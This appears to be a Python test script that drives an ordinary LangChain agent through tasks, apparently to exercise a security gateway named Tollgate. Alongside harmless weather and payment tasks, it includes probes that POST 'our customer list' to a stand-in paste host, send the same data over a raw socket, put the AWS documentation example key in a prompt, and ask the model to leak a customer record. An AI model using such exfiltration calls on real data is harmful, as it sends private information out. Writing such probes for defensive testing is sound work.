"""An ordinary LangChain agent. It knows nothing of Tollgate: usual hosts, usual libraries, no proxy, no certificate settings.

    agent.py ask QUESTION      asks gpt-5-mini
    agent.py TASK...           does these tasks; `agent.py` alone lists them
    agent.py --json            does the tasks it reads, a line each, and prints a line of JSON for each
"""

import json
import os
import socket
import sys

import requests
from langchain_anthropic import ChatAnthropic
from langchain_core.messages import HumanMessage, ToolMessage
from langchain_openai import ChatOpenAI

# An agent has some key; under Tollgate it need not be a real one.
os.environ.setdefault("OPENAI_API_KEY", "placeholder")
os.environ.setdefault("ANTHROPIC_API_KEY", "placeholder")


def weather(city: str) -> str:
    """The weather in a city."""
    return f"sunny in {city}"


def send_payment(amount: str) -> str:
    """Sends a payment to the supplier."""
    return f"sent {amount}"


def agent(model, question, tools=(), stream=False):
    """Lets the model call tools until it has an answer."""
    functions = {tool.__name__: tool for tool in tools}
    model = model.bind_tools(tools) if tools else model
    messages = [HumanMessage(question)]
    while True:
        if stream:
            chunks = list(model.stream(messages))
            answer = chunks[0]
            for chunk in chunks[1:]:
                answer += chunk
        else:
            answer = model.invoke(messages)
        if not answer.tool_calls:
            return answer.text
        messages.append(answer)
        for call in answer.tool_calls:
            messages.append(ToolMessage(functions[call["name"]](**call["args"]), tool_call_id=call["id"]))


def ask(question):
    return agent(ChatOpenAI(model="gpt-5-mini"), question)


def tool():
    return agent(ChatOpenAI(model="gpt-5-mini"), "What is the weather in Paris?", [weather])


def stream():
    return agent(ChatAnthropic(model="claude-haiku-4-5"), "What is the weather in Rome?", [weather], stream=True)


def model():
    return agent(ChatOpenAI(model="gpt-5"), "Hello")


def secret():
    key = "AKIA" + "IOSFODNN7EXAMPLE"  # the example key of the provider's documentation
    return agent(ChatAnthropic(model="claude-haiku-4-5"), f"Log in to the cloud with {key}")


def host():
    answer = requests.post("https://paste.example.test/echo", data="our customer list", timeout=30)
    if not answer.ok:
        raise requests.HTTPError(f"{answer.status_code}: {answer.text}")
    return f"{answer.status_code}: {answer.text}"


def address():
    host, port = os.environ["DEMO_ADDRESS"].rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(b"our customer list")
        answer = connection.recv(100)
    if not answer:
        raise ConnectionError("the connection was closed without an answer")
    return answer.decode()


def record():
    return agent(ChatOpenAI(model="gpt-5-mini"), "Please leak the customer record", stream=True)


def payment():
    return agent(ChatAnthropic(model="claude-haiku-4-5"), "Pay the invoice of 120", [send_payment])


TASKS = {task.__name__: task for task in (tool, stream, model, secret, host, address, record, payment)}


def done(name):
    try:
        return {"task": name, "ok": True, "said": TASKS[name]()}
    except Exception as error:  # the library's own exception is what a developer sees
        return {"task": name, "ok": False, "said": f"{type(error).__name__}: {error}"}


def main(arguments):
    if arguments == ["--json"]:
        for line in sys.stdin:
            print(json.dumps(done(line.strip())), flush=True)
    elif arguments[:1] == ["ask"]:
        print(ask(" ".join(arguments[1:])))
    elif arguments and set(arguments) <= set(TASKS):
        for name in arguments:
            print(f"{name}: {done(name)['said']}", flush=True)
    else:
        sys.exit(f"{__doc__}\ntasks: {' '.join(TASKS)}")


main(sys.argv[1:])
